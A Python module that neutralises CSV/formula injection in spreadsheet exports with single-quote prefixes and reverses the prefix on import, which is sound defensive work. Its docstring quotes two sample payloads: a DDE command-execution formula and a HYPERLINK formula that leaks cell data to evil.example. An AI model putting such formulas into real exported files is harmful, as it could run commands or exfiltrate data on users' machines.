"""CSV cells that a spreadsheet never runs as formulas (CSV injection), and back.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula to
Excel, LibreOffice and Google Sheets: a subscriber named ``=cmd|' /C calc'!A0`` or
``=HYPERLINK("https://evil.example?"&A1, "click")`` would run or leak data in the author's
spreadsheet. As OWASP advises (https://owasp.org/www-community/attacks/CSV_Injection), an
exported cell like that is prefixed with a single quote, which spreadsheets show as text.

So that an import of an export gives back exactly what was exported, the quote is taken off
again on import, and a cell that already starts with quotes before such a character gets one
more on export: ``neutralise`` and ``restore`` are inverse for every string. ``imported`` also
trims a cell as the import always did, without ever uncovering a formula: ``"\\t=1+1"`` (a tab
some tools put in front of formulas to disarm them) is stored as ``'=1+1``, never ``=1+1``.
"""

from __future__ import annotations

import re

FORMULA_START = "=+-@\t\r"
# Any number of quotes, then a formula character: exactly the cells ``neutralise`` prefixes.
_NEEDS_QUOTE = re.compile(r"'*[=+\-@\t\r]")
# What trimming removes in front of a cell's text: whitespace and control characters.
_LEAD = re.compile(r"[\s\x00-\x1f\x7f-\x9f]*")


def neutralise(cell: str) -> str:
    """``cell`` as written to an exported CSV file."""
    return "'" + cell if _NEEDS_QUOTE.match(cell) else cell


def restore(cell: str) -> str:
    """The cell ``neutralise`` was given (any other cell unchanged)."""
    if cell.startswith("'") and _NEEDS_QUOTE.match(cell, 1):
        return cell[1:]
    return cell


def imported(raw: str) -> str:
    """A cell of an imported file as the text to store: neutralisation undone, whitespace and
    control characters trimmed, and a quote kept in front of a formula that trimming anything
    but plain spaces uncovered."""
    text = restore(raw)
    lead = _LEAD.match(text)
    hidden = lead.group() if lead else ""
    rest = text[len(hidden) :].strip()
    if hidden.strip(" ") and rest[:1] and rest[0] in FORMULA_START:
        return "'" + rest
    return rest


__all__ = ["FORMULA_START", "imported", "neutralise", "restore"]
